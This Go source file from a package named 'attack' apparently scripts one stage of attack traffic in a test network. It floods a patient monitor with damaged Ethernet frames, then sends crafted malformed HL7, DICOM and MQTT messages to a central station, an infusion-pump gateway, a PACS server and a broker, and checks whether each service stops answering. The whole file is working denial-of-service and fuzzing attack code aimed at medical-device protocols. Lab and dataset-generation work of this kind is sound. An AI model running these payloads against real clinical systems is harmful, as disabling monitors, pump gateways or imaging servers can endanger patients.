package attack

import (
	"context"
	"errors"
	"fmt"
	"time"
)

// framesPerSecond and mostFrames bound the storm.
const (
	framesPerSecond = 200
	mostFrames      = 20_000
)

// broken are messages that break the rules of a service's protocol.
var broken = []struct {
	victim   string
	port     uint16
	protocol string
	messages []string
}{
	{"central-1", 6661, "HL7", []string{
		"MSH|^~\\&|no start block|\r\x1c\r",
		"\x0bMSH|^~\\&|no end block|",
		"\x0b\x1c\r",
		"\x0bMSH\r\x1c\r",
		"\x0b||||||||||||\r\x00\x00\x00\x1c\r",
	}},
	{"pump-gateway", 6661, "HL7", []string{
		"\x0bMSH|^~\\&|A|B|C|D|X||RGV^O15|1|P|99.9\rPID\rRXG|\x1c\x1c\x1c\r",
		"GET / HTTP/1.0\r\n\r\n",
	}},
	{"pacs", 104, "DICOM", []string{
		"\x01\x00\xff\xff\xff\xff\x00\x01",                 // A-ASSOCIATE-RQ of four billion bytes (PS3.8 §9.3.2)
		"\x01\x00\x00\x00\x00\x02\x00\x01",                 // shorter than its fixed part
		"\x04\x00\x00\x00\x00\x06\x00\x00\x00\x02\x01\x03", // P-DATA-TF without an association
		"\xff\x00\x00\x00\x00\x04\x00\x00\x00\x00",         // no such PDU
	}},
	{"broker", 1883, "MQTT", []string{
		"\x10\xff\xff\xff\xff\xff",                 // a length of five bytes (MQTT 3.1.1 §2.2.3)
		"\x10\x0c\xff\xffMQTT\x04\x02\x00\x3c",     // a name longer than the packet
		"\x82\x08\x00\x01\x00\x03a/b\x00",          // SUBSCRIBE before CONNECT
		"\xf0\x02\x00\x00",                         // reserved type
		"\x10\x0c\x00\x04MQTT\x04\xff\x00\x3c\x00", // reserved flag
	}},
}

// stormMalformed sends damaged frames to a monitor, then broken messages to
// services.
func stormMalformed(ctx context.Context, s *stage) error {
	monitor := device("monitor-1")
	link := []Selector{
		{SrcMAC: s.attacker.MAC, DstMAC: monitor.MAC},
		{SrcMAC: monitor.MAC, DstMAC: s.attacker.MAC, Src: host(monitor.IP()), Dst: host(s.attacker.IP())},
	}
	err := s.step(ctx, "damaged frames", link, func(ctx context.Context) (string, error) {
		ctx, cancel := s.bounded(ctx)
		defer cancel()
		l, err := s.at.OpenLink("eth0")
		if err != nil {
			return "", err
		}
		defer l.Close()
		c := &crafter{s.attacker.MAC, monitor.MAC, s.attacker.IP(), monitor.IP(), s.dice}
		sent := 0
		for ctx.Err() == nil && sent < mostFrames {
			if err := l.Send(damages[sent%len(damages)].make(c)); err != nil {
				return fmt.Sprintf("%d frames", sent), err
			}
			sent++
			pause(ctx, time.Second/framesPerSecond)
		}
		return fmt.Sprintf("%d frames of %d kinds", sent, min(sent, len(damages))), nil
	})
	if err != nil {
		return err
	}
	for _, b := range broken {
		err := s.step(ctx, "broken "+b.protocol+" messages to "+b.victim, []Selector{s.to(b.victim, "tcp", b.port)}, func(ctx context.Context) (string, error) {
			return s.breakService(ctx, fmt.Sprintf("%s:%d", ipOf(b.victim), b.port), b.messages)
		})
		if err != nil {
			return err
		}
	}
	return nil
}

// breakService sends each message over a connection of its own, and sees
// whether the service still takes calls then.
func (s *stage) breakService(ctx context.Context, address string, messages []string) (string, error) {
	const patience = 2 * time.Second
	call := func(message string) error {
		dial, cancel := context.WithTimeout(ctx, patience)
		defer cancel()
		c, err := s.at.Dial(dial, "tcp", address)
		if err != nil {
			return err
		}
		defer c.Close()
		if err := c.SetDeadline(time.Now().Add(patience / 4)); err != nil {
			return err
		}
		if err := write(c, []byte(message)); err != nil && !gone(err) {
			return err
		}
		_, _ = c.Read(make([]byte, 512)) // what it answers does not matter
		return nil
	}
	sent := 0
	var last error
	for _, m := range messages {
		if err := call(m); err != nil {
			last = err
			continue
		}
		sent++
	}
	if sent == 0 {
		return "", errors.Join(errors.New("the service is out of reach"), last)
	}
	state := "still answers"
	if err := call(""); err != nil {
		state = "does not answer any more"
	}
	return fmt.Sprintf("%d messages, the service %s", sent, state), nil
}
